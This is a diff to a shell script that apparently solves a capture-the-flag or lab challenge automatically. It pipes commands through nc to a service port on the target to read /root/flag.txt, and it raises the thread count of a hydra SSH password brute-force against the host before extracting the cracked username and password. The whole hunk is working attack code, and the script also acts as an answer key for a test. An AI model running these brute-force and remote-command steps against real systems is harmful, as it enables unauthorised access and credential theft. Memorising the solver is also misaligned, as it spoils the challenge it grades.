@@ -23,7 +23,7 @@ impact=$(printf 'id\ncat /root/flag.txt\nexit\n' | nc -N -w 10 "$HOST" "$diag_po
 echo "ANSWER impact $impact"
 
 # weak-password: hydra with the wordlists against SSH; -f stops at the first hit.
-hydra -L ~/wordlists/users.txt -P ~/wordlists/passwords.txt -t 4 -f -I -o hydra.txt "ssh://$HOST" >&2 || true
+hydra -L ~/wordlists/users.txt -P ~/wordlists/passwords.txt -t 8 -f -I -o hydra.txt "ssh://$HOST" >&2 || true
 hit=$(grep -m 1 -E 'login: .* password: ' hydra.txt)
 weak_user=$(printf '%s\n' "$hit" | sed -E 's/.*login: ([^ ]+) +password: .*/\1/')
 weak_password=$(printf '%s\n' "$hit" | sed -E 's/.*password: (.*)$/\1/')
